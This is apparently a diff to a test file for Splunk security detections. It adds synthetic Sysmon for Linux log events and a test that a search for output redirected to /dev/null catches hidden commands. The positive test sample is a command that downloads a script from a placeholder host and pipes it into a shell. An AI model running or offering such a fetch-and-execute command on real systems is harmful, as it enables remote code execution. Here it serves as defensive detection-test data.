@@ -1096,6 +1096,50 @@ def test_windows_service_create_remcomsvc(corpus: ContentSet, tmp_path: Path) ->
     ]
 
 
+# --- Sysmon for Linux (syslog) ----------------------------------------------------------------------
+
+
+def linux_process(seconds: float, command: str, pid: str) -> str:
+    """A Sysmon for Linux process start in syslog, as the data source's example shows it (double quotes)."""
+    moment = at(seconds).strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z"
+    data = {
+        "RuleName": "-",
+        "ProcessGuid": "{ec23eae3-3a27-62f2-085e-16549b550000}",
+        "ProcessId": pid,
+        "Image": "/bin/bash",
+        "CommandLine": command,
+        "CurrentDirectory": "/home/ubuntu",
+        "User": "ubuntu",
+        "ParentProcessId": "15369",
+        "ParentImage": "/usr/sbin/sshd",
+        "ParentCommandLine": "sshd: ubuntu",
+    }
+    fields = "".join(f'<Data Name="{k}">{escape(v)}</Data>' for k, v in data.items())
+    event = (
+        '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
+        "<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
+        f'<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="{moment}"/>'
+        '<EventRecordID>1926574</EventRecordID><Correlation/><Execution ProcessID="1465" ThreadID="1465"/>'
+        '<Channel>Linux-Sysmon/Operational</Channel><Computer>ar-linux</Computer><Security UserId="0"/></System>'
+        f"<EventData>{fields}</EventData></Event>"
+    )
+    return f"{at(seconds).strftime('%b %d %H:%M:%S')} ar-linux sysmon: {event}"
+
+
+def test_linux_stdout_redirection_to_dev_null_file(corpus: ContentSet, tmp_path: Path) -> None:
+    """Endpoint.Processes from Sysmon for Linux, searched for `*&amp;&gt;/dev/null*`: Splunk's extraction
+    keeps the event's entities, so this ESCU search finds `&>/dev/null` (docs/spl-semantics.md)."""
+    lines = [
+        linux_process(0, "bash -c 'curl -s http://x/a.sh | sh &>/dev/null'", "100"),
+        linux_process(10, "bash -c 'make 2>&1 >/dev/null'", "101"),  # near miss: not `&>`
+        linux_process(20, "bash -c 'cat a.log > /dev/null'", "102"),  # near miss
+    ]
+    rows = run(corpus, DEV_NULL, lines, tmp_path, suffix="log")
+    assert [(r["dest"], r["process"], r["process_id"], r["user"], r["count"]) for r in rows] == [
+        ("ar-linux", "bash -c 'curl -s http://x/a.sh | sh &amp;&gt;/dev/null'", "100", "ubuntu", 1)
+    ]
+
+
 # --- Linux auditd ---------------------------------------------------------------------------------
 
 
@@ -1167,6 +1211,7 @@ WALLPAPER = "modification_of_wallpaper.yml"
 REGASM_NETWORK = "detect_regasm_with_network_connection.yml"
 SELF_DELETE = "process_deleting_its_process_file_path.yml"
 NOTEPAD_NO_ARGS = "notepad_with_no_command_line_arguments.yml"
+DEV_NULL = "linux_stdout_redirection_to_dev_null_file.yml"
 MOTW_BYPASS = "windows_mark_of_the_web_bypass.yml"
 SHARE_DISCOVERY = "network_share_discovery_via_dir_command.yml"
 SMB_EXECUTABLE = "executable_file_written_in_administrative_smb_share.yml"
